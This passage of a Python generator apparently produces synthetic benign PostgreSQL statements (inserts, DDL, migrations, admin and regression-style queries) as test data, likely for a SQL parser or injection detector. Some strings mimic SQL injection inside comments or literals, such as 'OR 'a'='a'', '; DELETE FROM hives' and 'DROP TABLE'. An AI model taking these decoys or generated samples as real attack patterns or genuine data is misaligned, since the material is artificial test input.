                 "Sleep On The Floor", "O'Sullivan's March", "Table For Two", "Null & Void", "From The Ritz To The Rubble", "Order & Chaos"]
        slot = r.randint(1, 999)
        rows = ", ".join("(%d, %d, %s)" % (slot, i + 1, q(s)) for i, s in enumerate(r.sample(songs, r.randint(3, 7))))
        return "INSERT INTO stage_setlists (stage_slot_id, position, song_title) VALUES %s ON CONFLICT (stage_slot_id, position) DO UPDATE SET song_title = EXCLUDED.song_title" % rows

    @add("cx10_batch_unnest", "complex_batch_insert")
    def _(r):
        n = r.randint(2, 6)
        tags = ", ".join(q("COW-%04d" % r.randint(1, 9999)) for _ in range(n))
        lit = ", ".join("%.1f" % r.uniform(8, 40) for _ in range(n))
        return ("INSERT INTO milk_yields (animal_tag, litres, parlour_code, milked_at) SELECT t, l, %s, now() FROM unnest(ARRAY[%s]::text[], ARRAY[%s]::numeric[]) AS u(t, l)"
                % (q(r.choice(["PARLOUR-A", "ROTARY-2"])), tags, lit))

    # ---- built-in functions
    @add("cx10_builtins", "complex_builtin_funcs")
    def _(r):
        i = r.randint(1, 99999)
        return r.choice([
            "SELECT to_char(loan_pence / 100.0, 'FM999G990D00'), initcap(item_desc), length(ticket_no) FROM pawn_tickets WHERE ticket_no = %s" % q("PT-2025-%06d" % i),
            "SELECT regexp_replace(vessel_reg, '\\s+', ' ', 'g'), upper(species_code) FROM catch_landings WHERE landing_id = %d" % i,
            "SELECT split_part(cart_no, '-', %d), sum(duration_s) FROM playout_logs WHERE station_call = %s GROUP BY 1" % (r.randint(1, 3), q(r.choice(["KQED", "RADIO-FORTH"]))),
            "SELECT extract(epoch FROM (expected_end - started_at)) / 60 AS minutes FROM wash_cycles WHERE cycle_id = %d" % i,
            "SELECT encode(sha256(convert_to(card_uid, 'UTF8')), 'hex'), right(card_uid, 4) FROM laundry_cards LIMIT %d" % r.randint(1, 25),
            "SELECT date_part('hour', scanned_at) AS h, count(*) FROM lift_gate_scans WHERE scanned_at::date = %s GROUP BY 1 ORDER BY 1" % q(rdate(r)),
            "SELECT concat_ws(' / ', station_id, station_name), round(height_m::numeric, 2) FROM tide_observations JOIN tide_stations USING (station_id) WHERE observation_id = %d" % i,
            "SELECT string_agg(song_title, E'\\n' ORDER BY position) FROM stage_setlists WHERE stage_slot_id = %d" % r.randint(1, 999),
            "SELECT translate(owner_postcode, ' ', ''), char_length(dog_name), octet_length(dog_name) FROM dog_licences WHERE licence_no = %s" % q("DL-%06d" % i),
            "SELECT jsonb_array_length(ingredients), jsonb_path_query_first(ingredients, '$[0].material') FROM glaze_recipes WHERE recipe_id = %d" % i,
            "SELECT array_to_string(array_agg(DISTINCT abo_group || rh_factor ORDER BY abo_group || rh_factor), ', ') FROM blood_units WHERE expires_on > current_date",
            "SELECT format('%%s kiln %%s: cone %%s', to_char(fired_at, 'YYYY-MM-DD'), kiln_no, cone) FROM kiln_firings WHERE firing_id = %d" % i,
            "SELECT age(now(), made_on::timestamp), justify_hours(interval '%d hours') FROM cheese_wheels WHERE wheel_no = %d" % (r.randint(25, 400), i),
            "SELECT md5(pin_hash), gen_random_uuid() FROM locker_deposits WHERE deposit_id = %d" % i,
            "SELECT now() AT TIME ZONE %s, localtimestamp(0), current_setting('TimeZone')" % q(r.choice(["Pacific/Auckland", "Europe/Oslo", "America/Halifax"])),
            "SELECT E'Bay 3\\tshelf 2\\nrow 4', U&'d\\0061ta', $q$it's fine$q$, 'plain ''doubled'' quotes'",
            "SELECT btrim(notes, ' .'), strpos(notes, 'tbc') > 0 FROM costume_fittings WHERE fitting_id = %d" % i,
            "SELECT width_bucket(haemoglobin_gdl, 10, 18, 8), count(*) FROM donor_visits GROUP BY 1 ORDER BY 1",
            "SELECT least(salt_tonnes, %0.1f), greatest(0, salt_tonnes - 5), nullif(route_code, '') FROM gritting_runs WHERE run_id = %d" % (r.uniform(2, 12), i),
            "SELECT ts_headline('english', item_desc, websearch_to_tsquery('english', %s)) FROM pawn_tickets WHERE ticket_no = %s" % (q(r.choice(["gold or silver", "union pin", "\"select lens\""])), q("PT-2024-%06d" % i)),
            "SELECT generate_series(date %s, date %s, interval '%d days')::date AS d" % (q("2025-%02d-01" % r.randint(1, 6)), q("2025-%02d-28" % r.randint(7, 12)), r.choice([1, 7, 14])),
            "SELECT substring(shelfmark from '[0-9]+'), lpad(folio_no, 5, '0'), reverse(folio_no) FROM manuscript_folios WHERE folio_id = %d" % i,
            "SELECT to_timestamp(%d) AT TIME ZONE 'UTC', make_timestamptz(%d, %d, %d, 6, 30, 0, 'Europe/Dublin')" % (r.randint(1600000000, 1760000000), r.randint(2020, 2026), r.randint(1, 12), r.randint(1, 28)),
            "SELECT daterange(start_on, end_on, '[]') * daterange(%s, %s) FROM telescope_bookings WHERE booking_ref = %s" % (q(rdate(r, 2024, 2024)), q(rdate(r, 2025, 2025)), q("TB-%04d" % r.randint(1, 9999))),
            "SELECT xmlelement(name folio, xmlattributes(folio_no AS n), shelfmark) FROM manuscript_folios WHERE folio_id = %d" % i,
            "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY litres), mode() WITHIN GROUP (ORDER BY parlour_code) FROM milk_yields WHERE milked_at > now() - interval '%d days'" % r.randint(1, 30),
            "SELECT num_nulls(released_on, confirmed_by), pg_column_size(spot_id) FROM ad_spots WHERE spot_id = %d" % i,
            "SELECT point(lon, lat) <-> point(%.4f, %.4f) AS dist FROM parcel_lockers_geo ORDER BY dist LIMIT 5" % (r.uniform(-6, 1.5), r.uniform(50, 58))])

    # ---- comments and hints
    @add("cx10_comments", "complex_comments_hints")
    def _(r):
        i = r.randint(1, 999999)
        return r.choice([
            "/* app=locker-api route=/v2/lockers/:bank/free */ SELECT compartment FROM parcel_lockers WHERE bank_code = %s AND occupied IS FALSE" % q(r.choice(["LKR-LEITH", "LKR-KINGSX-04"])),
            "SELECT sailing_id FROM ferry_sailings WHERE route_code = %s /*traceparent='00-%032x-%016x-01',db_driver='pgx'*/" % (q(r.choice(["OBN-CRN", "ARD-BRO"])), r.getrandbits(128), r.getrandbits(64)),
            "/*+ IndexScan(t turbine_alarms_raised_idx) */ SELECT alarm_code FROM turbine_alarms t WHERE raised_at > now() - interval '%d hours'" % r.randint(1, 48),
            "/*+ HashJoin(r a) Leading((r a)) */ SELECT r.route_id, count(a.id) FROM climbing_routes r JOIN ascent_logs a ON a.route_id = r.route_id GROUP BY r.route_id",
            "-- nightly: expire stale lane holds\nDELETE FROM lane_bookings WHERE held_until < now() - interval '%d minutes' AND confirmed = false" % r.randint(5, 90),
            "SELECT wheel_no FROM cheese_wheels WHERE turned_at IS NULL -- TODO: union with the archive table once migrated; don't drop yet",
            "SELECT count(*) FROM wash_cycles /* was: WHERE 1=1 OR status = 'x' -- removed in PR #%d */ WHERE status = 'running'" % r.randint(100, 9999),
            "SELECT unit_no /* ISBT 128 */, expires_on /* local date */ FROM blood_units WHERE unit_no = %s" % q("G%013d" % r.randint(0, 10 ** 13 - 1)),
            "-- report: %s\n-- owner: %s\nSELECT station_call, count(*) FROM playout_logs WHERE aired_at::date = %s GROUP BY 1" % (r.choice(["ad airtime", "music share"]), r.choice(["traffic", "programming"]), q(rdate(r))),
            "SELECT 1; -- keepalive from pgbouncer, select 1 union select 2 is not sent",
            "SELECT licence_no FROM dog_licences WHERE dog_name = %s -- name came from a form field: 'DROP TABLE' is a dog's name here" % q(r.choice(["Drop Table", "Select", "Null"])),
            "/* request_id=%s tenant=%d */ UPDATE ad_spots SET status = 'released' WHERE spot_id = %d AND status = 'pencilled'" % (randstr(r, 16), r.randint(1, 500), i),
            "SELECT /* outer /* inner */ still outer */ shelfmark FROM manuscript_folios WHERE folio_id = %d" % i,
            "SELECT hive_tag -- ; DELETE FROM hives (example from the docs)\nFROM apiary_hives WHERE site_id = %d" % r.randint(1, 400),
            "/* Marginalia: controller:kilns,action:index,job:FiringReport */ SELECT firing_id FROM kiln_firings ORDER BY fired_at DESC LIMIT %d" % r.choice([10, 25]),
            "SELECT id FROM escape_room_slots WHERE venue_code = %s /* OR 'a'='a' */ AND NOT booked" % q(r.choice(["ESC-CORK", "ESC-GLASGOW"]))])

    # ---- DDL
    @add("cx10_ddl", "complex_ddl_migration")
    def _(r):
        n = r.randint(1, 999)
        return r.choice([
            "CREATE INDEX CONCURRENTLY IF NOT EXISTS lift_gate_scans_pass_day_%d ON lift_gate_scans (pass_uid, (scanned_at::date))" % n,
            "ALTER TABLE pod_bookings ADD CONSTRAINT pod_bookings_no_overlap_%d EXCLUDE USING gist (pod_code WITH =, during WITH &&)" % n,
            "ALTER TABLE blood_units ALTER COLUMN quarantined SET DEFAULT false, ALTER COLUMN expires_on SET NOT NULL",
            "CREATE TYPE locker_size_%d AS ENUM ('S', 'M', 'L', 'XL')" % n,
            "COMMENT ON COLUMN dog_licences.owner_postcode IS 'Stored without spaces; don''t format on write (rev %d)'" % n,
            "ALTER TABLE pawn_tickets ADD COLUMN IF NOT EXISTS item_tsv tsvector GENERATED ALWAYS AS (to_tsvector('simple', coalesce(item_desc, ''))) STORED",
            "CREATE TABLE IF NOT EXISTS tide_observations_%d PARTITION OF tide_observations FOR VALUES FROM ('%d-01-01') TO ('%d-01-01')" % ((lambda y: (y, y, y + 1))(r.randint(2015, 2030))),
            "CREATE POLICY tenant_isolation_%d ON locker_deposits USING (tenant_id = current_setting('app.tenant_id')::int)" % n,
            "CREATE DOMAIN isrc_code_%d AS text CHECK (VALUE ~ '^[A-Z]{2}[A-Z0-9]{3}[0-9]{7}$')" % n,
            "ALTER TABLE ferry_sailings ADD COLUMN route_geom_%d bytea, DROP COLUMN IF EXISTS legacy_note" % n])

    # ---- migration scripts
    @add("cx10_migration_flyway", "complex_migration_script")
    def _(r):
        v = r.randint(20, 500)
        return ("-- V%d__lane_booking_levels.sql\nALTER TABLE lane_bookings ADD COLUMN swimmer_level smallint NOT NULL DEFAULT 1;\n"
                "CREATE INDEX lane_bookings_level_idx ON lane_bookings (pool_code, swimmer_level);\n"
                "INSERT INTO flyway_schema_history (installed_rank, version, description, type, script, checksum, installed_by, execution_time, success) "
                "VALUES (%d, '%d', 'lane booking levels', 'SQL', 'V%d__lane_booking_levels.sql', %d, 'ci', %d, true);" % (v, v, v, v, r.randint(-2 ** 31, 2 ** 31 - 1), r.randint(5, 900)))

    @add("cx10_migration_alembic", "complex_migration_script")
    def _(r):
        a, b = "%012x" % r.getrandbits(48), "%012x" % r.getrandbits(48)
        return r.choice([
            "BEGIN;\nCREATE TABLE blade_repairs (id SERIAL NOT NULL, inspection_id INTEGER NOT NULL, method VARCHAR(40), cost_eur NUMERIC(10, 2), PRIMARY KEY (id), FOREIGN KEY(inspection_id) REFERENCES blade_inspections (id));\nUPDATE alembic_version SET version_num='%s' WHERE alembic_version.version_num = '%s';\nCOMMIT;" % (a, b),
            "ALTER TABLE kiln_firings ADD COLUMN atmosphere VARCHAR(16)",
            "UPDATE alembic_version SET version_num='%s' WHERE alembic_version.version_num = '%s'" % (a, b)])

    @add("cx10_migration_rails", "complex_migration_script")
    def _(r):
        v = "%d%02d%02d%06d" % (r.randint(2020, 2025), r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959))
        return r.choice([
            'INSERT INTO "schema_migrations" ("version") VALUES (\'%s\')' % v,
            'ALTER TABLE "wristband_taps" ADD "refunded" boolean DEFAULT FALSE NOT NULL',
            'CREATE INDEX "index_ascent_logs_on_member_no_and_route_id" ON "ascent_logs" ("member_no", "route_id")',
            'SELECT 1 FROM "ar_internal_metadata" WHERE "ar_internal_metadata"."key" = \'environment\' LIMIT 1'])

    @add("cx10_migration_goose", "complex_migration_script")
    def _(r):
        v = r.randint(20240101000000, 20251231235959)
        return r.choice([
            "-- +goose Up\n-- +goose StatementBegin\nCREATE TABLE salt_barns (depot text PRIMARY KEY, stock_tonnes numeric(8,1) NOT NULL DEFAULT 0);\n-- +goose StatementEnd",
            "INSERT INTO goose_db_version (version_id, is_applied) VALUES (%d, true)" % v,
            "SELECT version_id, is_applied FROM goose_db_version ORDER BY id DESC"])

    @add("cx10_migration_sqitch", "complex_migration_script")
    def _(r):
        return ("-- Deploy lockers:compartment_sizes to pg\nBEGIN;\nALTER TABLE parcel_lockers ADD COLUMN size_class char(1) NOT NULL DEFAULT 'M' CHECK (size_class IN ('S', 'M', 'L'));\n"
                "UPDATE parcel_lockers SET size_class = 'L' WHERE height_cm > %d;\nCOMMIT;" % r.randint(40, 70))

    @add("cx10_migration_knex", "complex_migration_script")
    def _(r):
        return r.choice([
            'create table "knex_migrations_lock" ("index" serial primary key, "is_locked" integer)',
            'select * from "knex_migrations_lock" where "index" = 1 for update',
            'insert into "knex_migrations" ("batch", "migration_time", "name") values (%d, \'%s\', \'%d_add_turbine_sites.js\')' % (r.randint(1, 90), ts(r), r.randint(20230101000000, 20251231235959)),
            'alter table "turbine_sites" add column "grid_ref" varchar(12)'])

    @add("cx10_migration_django", "complex_migration_script")
    def _(r):
        return r.choice([
            'BEGIN;\n--\n-- Add field swarm_risk to hive\n--\nALTER TABLE "apiary_hive" ADD COLUMN "swarm_risk" smallint DEFAULT 0 NOT NULL CHECK ("swarm_risk" >= 0);\nALTER TABLE "apiary_hive" ALTER COLUMN "swarm_risk" DROP DEFAULT;\nCOMMIT;',
            'INSERT INTO "django_migrations" ("app", "name", "applied") VALUES (\'apiary\', \'%04d_hive_swarm_risk\', \'%s\') RETURNING "django_migrations"."id"' % (r.randint(2, 80), ts(r))])

    @add("cx10_migration_prisma", "complex_migration_script")
    def _(r):
        return ("-- CreateTable\nCREATE TABLE \"RoyaltyPayee\" (\n    \"id\" SERIAL NOT NULL,\n    \"payeeRef\" TEXT NOT NULL,\n    \"sharePct\" DECIMAL(5,2) NOT NULL,\n"
                "    CONSTRAINT \"RoyaltyPayee_pkey\" PRIMARY KEY (\"id\")\n);\n\n-- CreateIndex\nCREATE UNIQUE INDEX \"RoyaltyPayee_payeeRef_key\" ON \"RoyaltyPayee\"(\"payeeRef\");")

    # ---- maintenance / admin
    @add("cx10_maintenance", "complex_maintenance_admin")
    def _(r):
        t = r.choice(["lift_gate_scans", "tide_observations", "wristband_taps", "milk_yields", "playout_logs"])
        return r.choice([
            "VACUUM (ANALYZE, SKIP_LOCKED) %s" % t, "ANALYZE VERBOSE %s" % t, "REINDEX INDEX CONCURRENTLY %s_pkey" % t, "CLUSTER %s USING %s_pkey" % (t, t),
            "SELECT relname, n_dead_tup, last_autovacuum FROM pg_stat_user_tables WHERE relname = '%s'" % t,
            "SELECT pid, wait_event_type, wait_event, left(query, 80) FROM pg_stat_activity WHERE datname = current_database() AND state = 'active' ORDER BY query_start LIMIT %d" % r.randint(5, 30),
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle in transaction' AND state_change < now() - interval '%d minutes' AND usename = 'locker_api'" % r.randint(5, 60),
            "EXPLAIN (ANALYZE false, COSTS true, FORMAT json) SELECT * FROM %s WHERE id = %d" % (t, r.randint(1, 99999)),
            "SELECT indexrelname, idx_scan, pg_size_pretty(pg_relation_size(indexrelid)) FROM pg_stat_user_indexes WHERE idx_scan = 0 ORDER BY pg_relation_size(indexrelid) DESC LIMIT %d" % r.randint(5, 20),
            "SET statement_timeout = '%ds'" % r.choice([15, 30, 120]), "SELECT pg_reload_conf()",
            "SELECT locktype, relation::regclass, mode, granted FROM pg_locks WHERE NOT granted",
            "SELECT client_addr, state, sent_lsn, replay_lsn, replay_lag FROM pg_stat_replication",
            "SELECT datname, pg_size_pretty(pg_database_size(datname)) FROM pg_database ORDER BY pg_database_size(datname) DESC"])

    @add("cx10_transactions", "complex_transactions")
    def _(r):
        return r.choice(["BEGIN READ WRITE", "BEGIN ISOLATION LEVEL REPEATABLE READ", "COMMIT AND NO CHAIN", "ROLLBACK AND NO CHAIN", "END",
                         "SAVEPOINT deposit_%d" % r.randint(1, 999), "RELEASE deposit_%d" % r.randint(1, 999), "ROLLBACK TO deposit_%d" % r.randint(1, 999),
                         "START TRANSACTION READ ONLY, DEFERRABLE", "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "PREPARE TRANSACTION 'ferry-%s'" % rword(r, 8),
                         "ROLLBACK PREPARED 'ferry-%s'" % rword(r, 8), "SELECT pg_advisory_xact_lock(hashtext(%s))" % q(r.choice(["kiln-2", "locker-LEITH", "ferry-OBN"])),
                         "SET LOCAL lock_timeout = '%dms'" % r.choice([500, 2000, 5000]), "SET CONSTRAINTS ALL DEFERRED", "ABORT"])

    # ---- query builders
    @add("cx10_qb_routes", "complex_query_builder")
    def _(r):
        conds = r.sample(["wall_code = %s" % q(r.choice(["CAVE", "ROOF", "SLAB-EAST"])), "grade_rank >= %d" % r.randint(1, 10), "setter IN ('ana', 'kofi', 'li')",
                          "set_on > current_date - %d" % r.randint(7, 60), "(stripped_on IS NULL OR stripped_on > current_date)", "colour ILIKE %s" % q(r.choice(["%blue%", "%o'range%", "%union%"]))], r.randint(1, 4))
        return "SELECT route_id, grade FROM climbing_routes WHERE " + " AND ".join(conds) + " ORDER BY grade_rank %s LIMIT %d" % (r.choice(["ASC", "DESC"]), r.choice([20, 50]))

    @add("cx10_qb_blood", "complex_query_builder")
    def _(r):
        conds = ["1 = 1"] + r.sample(["abo_group = %s" % q(r.choice(["O", "A", "B"])), "rh_factor = 'neg'", "expires_on BETWEEN current_date AND current_date + %d" % r.randint(2, 14),
                                      "NOT quarantined", "site_code = ANY ('{LEEDS,YORK}')", "volume_ml >= %d" % r.choice([200, 250])], r.randint(1, 3))
        return "SELECT unit_no, expires_on FROM blood_units WHERE " + " AND ".join(conds)

    @add("cx10_qb_or_groups", "complex_query_builder")
    def _(r):
        return ("SELECT ticket_no FROM pawn_tickets WHERE (status = 'active' OR status = 'renewed') AND (loan_pence > %d OR branch_code = %s) ORDER BY due_on NULLS LAST"
                % (r.randint(1000, 90000), q(r.choice(["PB-ANGEL", "PB-DERBY", "PB-O'CONNELL"]))))

    @add("cx10_qb_not_in", "complex_query_builder")
    def _(r):
        return "SELECT spot_id, status FROM ad_spots WHERE spot_id NOT IN (%s) AND station_call = %s" % (", ".join(str(r.randint(1, 99999)) for _ in range(r.randint(2, 10))), q(r.choice(["KQED", "RADIO-FORTH"])))

    # ---- parameterised, function bodies, search
    @add("cx10_param", "complex_parameterized")
    def _(r):
        return r.choice(["SELECT compartment FROM parcel_lockers WHERE bank_code = $1 AND size_class >= $2 LIMIT 1",
                         "UPDATE laundry_cards SET balance_cents = balance_cents + $1 WHERE card_uid = $2 RETURNING balance_cents",
                         "INSERT INTO lift_gate_scans (pass_uid, gate_code, scanned_at) VALUES ($1, $2, $3)",
                         "PREPARE tide_window (text, int) AS SELECT observed_at, height_m FROM tide_observations WHERE station_id = $1 AND observed_at > now() - make_interval(hours => $2)"])

    @add("cx10_plpgsql", "complex_plpgsql_body")
    def _(r):
        return r.choice([
            "CREATE OR REPLACE PROCEDURE renew_pawn_ticket(p_ticket text, p_days int) LANGUAGE plpgsql AS $proc$\nBEGIN\n  UPDATE pawn_tickets SET due_on = due_on + p_days WHERE ticket_no = p_ticket;\n  IF NOT FOUND THEN\n    RAISE EXCEPTION 'ticket % not found', p_ticket;\n  END IF;\nEND;\n$proc$",
            "CREATE OR REPLACE FUNCTION locker_touch() RETURNS trigger LANGUAGE plpgsql AS $$\nBEGIN\n  NEW.updated_at := clock_timestamp();\n  RETURN NEW;\nEND;\n$$",
            "CREATE TRIGGER lockers_touch BEFORE UPDATE ON parcel_lockers FOR EACH ROW WHEN (OLD.* IS DISTINCT FROM NEW.*) EXECUTE FUNCTION locker_touch()",
            "DO $do$\nDECLARE t text;\nBEGIN\n  FOREACH t IN ARRAY ARRAY['tide_observations', 'lift_gate_scans'] LOOP\n    EXECUTE format('ANALYZE %I', t);\n  END LOOP;\nEND\n$do$",
            "CREATE FUNCTION cone_to_celsius(p_cone text) RETURNS int LANGUAGE sql IMMUTABLE BEGIN ATOMIC SELECT CASE p_cone WHEN '06' THEN 999 WHEN '6' THEN 1222 WHEN '10' THEN 1285 END; END",
            "CREATE OR REPLACE FUNCTION next_free_lane(p_pool text) RETURNS int LANGUAGE plpgsql STABLE AS $f$\nDECLARE v int;\nBEGIN\n  SELECT lane_no INTO v FROM pool_lanes WHERE pool_code = p_pool AND NOT closed ORDER BY lane_no LIMIT 1;\n  RETURN v;\nEND\n$f$"])

    @add("cx10_search", "complex_search_complex")
    def _(r):
        return ("SELECT ticket_no, ts_rank(item_tsv, query, 32) AS rank FROM pawn_tickets, websearch_to_tsquery('simple', %s) AS query WHERE item_tsv @@ query ORDER BY rank DESC, ticket_no LIMIT %d"
                % (q(r.choice(["gold -plated", "\"camera lens\" or tripod", "union badge", "select watch", "drop earrings -silver"])), r.choice([20, 50])))
    return G


# ---------------------------------------------------------------- regression-test-style statements
REGRESS_FIXED = [
 # data types
 ("boolean", "SELECT bool 't' OR bool 'f' AS t, bool 't' AND bool 'f' AS f"), ("boolean", "SELECT 'on'::bool, 'off'::bool, ' TRUE '::bool"),
 ("boolean", "SELECT f1 FROM booltbl10 WHERE f1 IS NOT TRUE"), ("boolean", "SELECT bool_and(b), bool_or(b), every(b) FROM (VALUES (true), (false), (NULL)) v(b)"),
 ("char", "SELECT 'a'::char(5) || 'b' AS padded, length('ab   '::char(5))"), ("char", "SELECT c.f1 FROM char_tbl10 c WHERE c.f1 > 'a' ORDER BY 1"),
 ("varchar", "SELECT 'abcdefgh'::varchar(4), '  x  '::varchar(10) = 'x'"), ("text", "SELECT concat_ws(',', 10, 20, NULL, 30)"),
 ("text", "SELECT format('%1$s %1$s %2$L', 'echo', 'it''s')"), ("text", "SELECT format('|%-8s|%8s|', 'ab', 'cd')"), ("text", "SELECT reverse('abcde'), left('abcde', -2), right('abcde', 2)"),
 ("text", "SELECT string_to_table('a,b,,c', ',', '')"), ("strings", "SELECT 'abc' SIMILAR TO 'a(b|x)c' AS t, 'abc' SIMILAR TO '%(x|y)%' AS f"),
 ("strings", "SELECT substring('Thomas' similar '%#\"o_a#\"_' escape '#')"), ("strings", "SELECT regexp_split_to_array('the quick  brown', '\\s+')"),
 ("strings", "SELECT overlay('abcdef' placing 'XY' from 3 for 2)"), ("strings", "SELECT btrim('xyxtrimyyx', 'xy'), ltrim('zzzytrim', 'xyz')"),
 ("strings", "SELECT to_hex(2147483647), to_hex(-1::int8)"), ("strings", "SELECT encode('\\x00ff'::bytea, 'base64'), decode('AP8=', 'base64')"),
 ("strings", "SELECT normalize(U&'\\0061\\0308', NFC) = U&'\\00E4'"), ("strings", "SELECT unistr('d\\0061t\\+000061')"), ("strings", "SELECT 'foo' || NULL IS NULL AS t"),
 ("strings", "SELECT split_part('joeuser@mydatabase', '@', -1)"), ("strings", "SELECT position('om' in 'Thomas'), strpos('high', 'ig')"),
 ("strings", "SELECT E'\\\\x41' AS backslash_x, '\\x41'::bytea AS bytes"), ("strings", "SELECT md5(''), sha256(''::bytea)"),
 ("int2", "SELECT i.f1, i.f1 % int2 '3' FROM int2_tbl10 i"), ("int2", "SELECT '0b1111'::int2, '0o17'::int2, '0xf'::int2"),
 ("int4", "SELECT int4 '1000000' * int4 '1000000'"), ("int4", "SELECT (-2147483648)::int4 % (-1)::int4"), ("int4", "SELECT 4 ^ 0.5, @ -5, 7 / 2, 7 % 2"),
 ("int8", "SELECT q1 >> 2, q2 << 1 FROM int8_tbl10"), ("int8", "SELECT 9223372036854775807::int8 + 1::int8"), ("int8", "SELECT to_char(q2, 'MI9999999999999999') FROM int8_tbl10"),
 ("float4", "SELECT '3.4e38'::float4 * 10"), ("float4", "SELECT float4 '1.0e-45' AS smallest"), ("float8", "SELECT cbrt(float8 '27'), ||/ float8 '27'"),
 ("float8", "SELECT sinh(1::float8), cosh(1::float8), tanh(1::float8), asinh(1::float8)"), ("float8", "SELECT 'NaN'::float8 > 'Infinity'::float8"),
 ("float8", "SELECT erf(0.5::float8), erfc(0.5::float8)"),
 ("numeric", "SELECT 0.1::numeric + 0.2::numeric = 0.3::numeric"), ("numeric", "SELECT 1e-20::numeric(30,25)"), ("numeric", "SELECT (2::numeric ^ 100)::text"),
 ("numeric", "SELECT numeric_inc(9.9), abs(-0.0::numeric)"), ("numeric", "SELECT 10::numeric % 3, -10::numeric % 3"), ("numeric", "SELECT '1_000.000_5'::numeric"),
 ("numeric", "SELECT to_char(-1234.5, 'S9999.99'), to_char(0.05, '0.99PR')"), ("numeric", "SELECT width_bucket(3.5::numeric, 1, 10, 3)"),
 ("money", "SELECT '$1,234.56'::money + '$0.44'::money"), ("money", "SELECT sum(m) FROM (VALUES ('1.10'::money), ('2.20'::money)) v(m)"),
 ("uuid", "SELECT gen_random_uuid() IS NOT NULL"), ("uuid", "SELECT 'A0EEBC99-9C0B-4EF8-BB6D-6BB9BD380A11'::uuid"),
 ("enum", "CREATE TYPE moods10 AS ENUM ('sad', 'ok', 'happy')"), ("enum", "ALTER TYPE moods10 ADD VALUE IF NOT EXISTS 'ecstatic' AFTER 'happy'"),
 ("enum", "SELECT 'ok'::moods10 < 'happy'::moods10"), ("enum", "SELECT enum_range('ok'::moods10, NULL)"), ("enum", "DROP TYPE moods10"),
 ("domain", "CREATE DOMAIN posint10 AS int CHECK (VALUE > 0) NOT NULL"), ("domain", "CREATE DOMAIN email10 AS text COLLATE \"C\" CHECK (VALUE ~ '^[^@]+@[^@]+$')"),
 ("domain", "ALTER DOMAIN posint10 ADD CONSTRAINT lt_1000 CHECK (VALUE < 1000) NOT VALID"), ("domain", "SELECT 5::posint10 + 1"), ("domain", "DROP DOMAIN posint10 CASCADE"),
 ("rangetypes", "SELECT int8range(10, 20) * int8range(15, 25)"), ("rangetypes", "SELECT isempty(numrange(1, 1)), lower_inf('(,5]'::int4range)"),
 ("rangetypes", "SELECT '[2025-01-01,2025-02-01)'::daterange @> '2025-01-15'::date"), ("rangetypes", "SELECT tsrange('2025-01-01 10:00', '2025-01-01 12:00', '[)') -|- tsrange('2025-01-01 12:00', '2025-01-01 13:00')"),
 ("rangetypes", "CREATE TYPE floatrange10 AS RANGE (subtype = float8, subtype_diff = float8mi)"), ("rangetypes", "SELECT '[1.5,2.5]'::floatrange10"),
 ("rangetypes", "SELECT range_intersect_agg(r) FROM (VALUES (int4range(1, 10)), (int4range(5, 20))) t(r)"),
 ("multirangetypes", "SELECT int4multirange(int4range(1, 3), int4range(5, 8)) - int4multirange(int4range(2, 6))"),
 ("multirangetypes", "SELECT '{[1,2), [4,5)}'::int4multirange && '{[3,4]}'::int4multirange"), ("multirangetypes", "SELECT unnest('{[1,2), [5,6)}'::int4multirange)"),
 ("date", "SELECT date '2024-02-29' + interval '1 year'"), ("date", "SELECT date 'epoch', date 'infinity' > date '9999-12-31'"),
 ("date", "SELECT EXTRACT(WEEK FROM DATE '2025-12-31'), EXTRACT(ISOYEAR FROM DATE '2025-12-31')"), ("date", "SELECT make_date(-44, 3, 15)"),
 ("time", "SELECT time '24:00:00', time with time zone '10:00+02' = time with time zone '08:00+00'"), ("time", "SELECT '12:34:56.789'::time(1)"),
 ("timestamp", "SELECT timestamp '2025-03-30 01:30' + interval '1 hour'"), ("timestamp", "SELECT date_trunc('quarter', timestamp '2025-08-17 13:14:15')"),
 ("timestamp", "SELECT timestamp 'allballs' IS NULL"), ("timestamptz", "SELECT timestamptz '2025-10-26 00:30 Europe/London' + interval '2 hours'"),
 ("timestamptz", "SELECT date_add('2025-03-30 00:00+00'::timestamptz, interval '1 day', 'Europe/Warsaw')"),
 ("timestamptz", "SELECT to_char(timestamptz '2025-06-01 12:00+00', 'YYYY-MM-DD HH24:MI TZH:TZM')"),
 ("interval", "SELECT interval '1 day 2 hours' - interval '3 hours'"), ("interval", "SELECT interval 'P1Y2M3DT4H5M6S'"), ("interval", "SELECT interval '-1 month' * 2.5"),
 ("interval", "SELECT make_interval(years => 1, days => 10, secs => 1.5)"), ("interval", "SELECT justify_days(interval '65 days'), justify_hours(interval '50 hours')"),
 ("horology", "SELECT to_timestamp('05 Dec 2000', 'DD Mon YYYY')"), ("horology", "SELECT to_date('2025 366', 'YYYY DDD')"),
 ("horology", "SELECT extract(julian from timestamp '2025-01-01 12:00')"), ("horology", "SELECT timezone('Asia/Kolkata', timestamptz '2025-01-01 00:00+00')"),
 ("inet", "SELECT inet '192.168.1.5' << cidr '192.168.1/24'"), ("inet", "SELECT abbrev(cidr '10.1.0.0/16'), hostmask(inet '192.168.23.20/30')"),
 ("inet", "SELECT inet_merge('192.168.1.5/24', '192.168.2.5/24')"), ("inet", "SELECT '::1'::inet + 1, inet '10.0.0.255' - inet '10.0.0.1'"),
 ("macaddr", "SELECT macaddr '08:00:2b:01:02:03' & macaddr 'ff:ff:ff:00:00:00'"), ("macaddr8", "SELECT macaddr8 '08:00:2b:01:02:03'"),
 ("bit", "SELECT B'10101' # B'11111', ~B'1010'"), ("bit", "SELECT get_bit(B'0101', 1), set_bit(B'0000', 2, 1)"), ("bit", "SELECT X'1F'::bit(8), 44::bit(10)"),
 ("bytea", "SELECT get_byte('\\x1234'::bytea, 1), set_byte('\\x1234'::bytea, 0, 255)"), ("bytea", "SELECT length('\\xdeadbeef'::bytea), bit_count('\\xff'::bytea)"),
 ("bytea", "SELECT ltrim('\\x0000beef'::bytea, '\\x00'::bytea)"),
 # json
 ("json", "SELECT json_build_array(1, 'two', NULL, true)"), ("json", "SELECT json_object('{a,1,b,2}')"), ("json", "SELECT '{\"a\":{\"b\":[10,20]}}'::json #> '{a,b,1}'"),
 ("json", "SELECT * FROM json_to_record('{\"a\":1,\"b\":\"x\"}') AS r(a int, b text)"), ("json", "SELECT json_typeof('[]'), json_typeof('-1.5e3')"),
